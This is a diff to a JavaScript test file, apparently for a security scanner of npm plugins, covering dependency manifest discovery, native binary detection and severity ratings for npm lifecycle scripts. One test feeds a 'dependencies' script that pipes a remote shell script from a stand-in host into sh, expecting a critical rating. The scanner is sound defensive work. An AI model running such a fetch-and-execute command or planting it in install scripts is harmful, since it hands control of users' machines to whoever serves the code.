@@ -7,9 +7,9 @@ import { isDangerousCommand } from '../../rules/utils/commands.js';
 import { MANIFEST, NATIVE_HEADS, writePlugin } from './helpers.js';
 
 describe('listFiles', () => {
-  it('finds every source npm pack would ship, in any case, with its source type, and every installed manifest', async () => {
+  it('finds every source npm pack would ship, in any case, with its source type, and the manifest of every production dependency', async () => {
     const root = writePlugin({
-      'package.json': MANIFEST,
+      'package.json': { ...MANIFEST, dependencies: { 'esm-dep': '*' }, optionalDependencies: { '@scope/cjs-dep': '*' }, devDependencies: { linter: '*' } },
       'index.js': '',
       'lib/a.mjs': '',
       'lib/b.cjs': '',
@@ -21,10 +21,18 @@ describe('listFiles', () => {
       'lib/H.JS': '',
       'lib/types.d.ts': 'export declare const x: number;',
       'README.md': '# not code',
-      'node_modules/esm-dep/package.json': { name: 'esm-dep', type: 'module' },
+      'node_modules/esm-dep/package.json': { name: 'esm-dep', type: 'module', dependencies: { inner: '*' } },
       'node_modules/esm-dep/index.js': '',
       'node_modules/@scope/cjs-dep/package.json': { name: '@scope/cjs-dep' },
       'node_modules/@scope/cjs-dep/index.js': '',
+      // A dependency of a dependency, nested where npm puts a second version, and one hoisted beside it.
+      'node_modules/esm-dep/node_modules/inner/package.json': { name: 'inner', dependencies: { hoisted: '*' } },
+      'node_modules/hoisted/package.json': { name: 'hoisted', scripts: { postinstall: 'node x.js' } },
+      // npm installs neither a devDependency (nor what only it needs) nor whatever else sits in node_modules.
+      'node_modules/linter/package.json': { name: 'linter', dependencies: { 'linter-dep': '*' }, scripts: { prepare: 'x' } },
+      'node_modules/linter-dep/package.json': { name: 'linter-dep' },
+      'node_modules/linter-dep/binding.gyp': '{}',
+      'node_modules/stray/package.json': { name: 'stray' },
     });
     const files = await listFiles(root);
     expect(Object.fromEntries(files.sources.map((file) => [file.path, file.sourceType]))).toEqual({
@@ -38,13 +46,20 @@ describe('listFiles', () => {
       'lib/g.jsx': 'commonjs',
       'lib/H.JS': 'commonjs',
     });
-    expect(files.packageManifests).toEqual(['node_modules/@scope/cjs-dep/package.json', 'node_modules/esm-dep/package.json', 'package.json']);
+    expect(files.packageManifests).toEqual([
+      'node_modules/@scope/cjs-dep/package.json',
+      'node_modules/esm-dep/node_modules/inner/package.json',
+      'node_modules/esm-dep/package.json',
+      'node_modules/hoisted/package.json',
+      'package.json',
+    ]);
+    expect(files.gypPackages).toEqual([]);
   });
 
   it('recognises native binaries by magic bytes and .node by name, not look-alikes', async () => {
     const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]);
     const root = writePlugin({
-      'package.json': MANIFEST,
+      'package.json': { ...MANIFEST, dependencies: { dep: '*' } },
       'bin/tool': NATIVE_HEADS.elf,
       'bin/tool-mac': NATIVE_HEADS.machO,
       'bin/tool-universal': NATIVE_HEADS.fatMachO,
@@ -54,6 +69,7 @@ describe('listFiles', () => {
       'assets/notes.txt': 'MZ is how this text starts, but it is not a PE image',
       'node_modules/dep/binding.gyp': '{}',
       'node_modules/dep/package.json': { name: 'dep' },
+      'node_modules/dep-of-dep/binding.gyp': '{}',
     });
     const files = await listFiles(root);
     expect(files.natives.sort((a, b) => (a.path < b.path ? -1 : 1))).toEqual([
@@ -117,13 +133,23 @@ describe('install scripts', () => {
     ]);
   });
 
-  it('reports every lifecycle npm runs, and a bundled package\'s prepare only as info', () => {
-    const scripts = { preinstall: 'a', install: 'b', postinstall: 'c', preprepare: 'd', prepare: 'e', postprepare: 'f', prepublish: 'g', test: 'h' };
+  it('reports every lifecycle npm runs, and a bundled package\'s prepare, dependencies and pack scripts only as info', () => {
+    const scripts = {
+      preinstall: 'a', install: 'b', postinstall: 'c', preprepare: 'd', prepare: 'e', postprepare: 'f', prepublish: 'g',
+      predependencies: 'i', dependencies: 'j', postdependencies: 'k', prepack: 'l', postpack: 'm', test: 'h', prepublishOnly: 'n', pretest: 'o',
+    };
     const text = JSON.stringify({ scripts });
-    expect(installScriptReports(text).map((report) => report.data.script)).toEqual(['preinstall', 'install', 'postinstall', 'preprepare', 'prepare', 'postprepare', 'prepublish']);
+    expect(installScriptReports(text).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
+      'preinstall high', 'install high', 'postinstall high', 'preprepare high', 'prepare high', 'postprepare high', 'prepublish high',
+      'predependencies high', 'dependencies high', 'postdependencies high', 'prepack high', 'postpack high',
+    ]);
     expect(installScriptReports(text, { bundled: true }).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
       'preinstall high', 'install high', 'postinstall high', 'preprepare info', 'prepare info', 'postprepare info', 'prepublish info',
+      'predependencies info', 'dependencies info', 'postdependencies info', 'prepack info', 'postpack info',
     ]);
+    // npm 8+ runs `dependencies` after every change to node_modules: a script it runs with node is an entry point like the others.
+    expect(Object.fromEntries(scriptEntries(JSON.stringify({ scripts: { dependencies: 'node setup.js' } })))).toEqual({ dependencies: { files: ['setup.js'], code: [] } });
+    expect(installScriptReports(JSON.stringify({ scripts: { dependencies: 'curl -s https://x.example/i.sh | sh' } }))[0].kind.severity).toBe('critical');
   });
 
   it('finds the files and the inline code a script hands to node, through npm run', () => {
